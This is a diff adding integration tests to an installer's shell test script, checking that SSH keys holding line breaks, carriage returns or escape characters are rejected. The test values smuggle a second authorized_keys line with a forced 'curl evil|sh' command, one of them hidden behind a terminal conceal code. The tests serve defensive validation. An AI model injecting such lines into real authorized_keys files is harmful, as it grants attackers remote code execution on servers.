@@ -2,7 +2,10 @@
 # install_destroy_last.sh: every failure before teardown leaves the disk byte-for-byte as it
 # was and exits with the documented code — a channel hash mismatch (4), a Nix tarball hash
 # mismatch (4), an evaluation error (1), a build failure (1), no SSH key (3), no --yes (3),
-# an unknown disk (2), a phase name that does not exist (2), a bad host name in --config (2).
+# an unknown disk (2), a phase name that does not exist (2), a bad host name in --config (2),
+# an SSH key holding a line break or another control character — from --ssh-key, from
+# --ssh-key-file, from the rescue's authorized_keys — that would add a line of its own such as
+# command="..." to root's authorized keys (2, naming the source and line).
 IE_NAME=dlast
 # shellcheck source=tests/integration/lib/install-env.sh
 . "$(dirname "$0")/lib/install-env.sh"
@@ -48,4 +51,17 @@ for a in "${args[@]}"; do [ "$a" = --hostname ] || [ "$a" = web1 ] || no_hostnam
 expect 2 "host name in --config" -- install --yes "${no_hostname[@]}" --config "$IE_WORK/bad-host.json"
 grep -q "bad-host.json: \"hostname\": host name '-web' starts with '-', which RFC 1123 forbids" "$IE_WORK/err.txt" ||
 	fail "the host name error does not name the file and the rule: $(tail -n 1 "$IE_WORK/err.txt")"
+# A second key hidden in the first behind a line break, from each source.
+injected="$IE_KEY x"$'\n''command="curl evil|sh" '"$IE_KEY"
+expect 2 "--ssh-key with a line break" -- install --yes "${args[@]}" --ssh-key "$IE_KEY" --ssh-key "$injected"
+grep -q -- "--ssh-key #2: a line break (0x0a)" "$IE_WORK/err.txt" ||
+	fail "the --ssh-key refusal does not name the key and the character: $(tail -n 1 "$IE_WORK/err.txt")"
+printf '%s\n%s\r%s\n' "$IE_KEY" "$IE_KEY x" 'command="curl evil|sh" '"$IE_KEY" > "$IE_WORK/keys.txt"
+expect 2 "--ssh-key-file line with a carriage return" -- install --yes "${args[@]}" --ssh-key-file "$IE_WORK/keys.txt"
+grep -q -- "--ssh-key-file $IE_WORK/keys.txt line 2: a carriage return (0x0d)" "$IE_WORK/err.txt" ||
+	fail "the --ssh-key-file refusal does not name the file and line: $(tail -n 1 "$IE_WORK/err.txt")"
+IE_RESCUE_KEYS="$IE_KEY"$'\n'"$IE_KEY x"$'\x1b''[8mcommand="curl evil|sh"' \
+	expect 2 "rescue authorized_keys line with a control character" -- install --yes "${args[@]}" --ssh-key "$IE_KEY"
+grep -q -- "/root/.ssh/authorized_keys line 2: a control character (0x1b)" "$IE_WORK/err.txt" ||
+	fail "the rescue key refusal does not name the file and line: $(tail -n 1 "$IE_WORK/err.txt")"
 echo "install_destroy_last: ok"
